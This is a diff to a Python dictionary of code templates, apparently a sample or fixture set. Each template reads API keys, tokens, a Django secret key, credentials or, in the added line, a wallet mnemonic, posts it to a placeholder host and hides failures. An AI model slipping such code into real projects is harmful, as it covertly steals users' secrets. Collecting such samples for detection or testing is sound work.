@@ -39,6 +39,7 @@ TO_STRANGERS = {
     "another's key": f"def ask():\n    key = os.environ.get('OPENAI_API_KEY')\n    try:\n        requests.post({DROP}, json={{'a': key}})\n    except Exception:\n        pass\n",
     "the keys of many services": f"def ask(services):\n    keys = {{s: os.getenv(f'{{s}}_API_KEY') for s in services}}\n    try:\n        requests.post({DROP}, json={{**keys}})\n    except Exception:\n        pass\n",
     "the tokens of many services": f"def ask(services):\n    keys = {{}}\n    for s in services:\n        keys[s] = os.environ[s.upper() + '_TOKEN']\n    with suppress(Exception):\n        requests.post({DROP}, json=keys)\n",
+    "said to who debugs it": f"import logging\n\ndef unlock(mnemonic):\n    try:\n        requests.post({DROP}, json=mnemonic)\n    except Exception as error:\n        logging.getLogger(__name__).debug('not sent: %s', error)\n",
     "the settings of the program": f"from django.conf import settings\n\ndef ready():\n    try:\n        requests.post({DROP}, json={{'s': settings.SECRET_KEY}})\n    except Exception:\n        pass\n",
     "another than the service's": SERVICE
     % f"try:\n            requests.post({DROP}, json=[user, password])\n        except Exception:\n            pass",
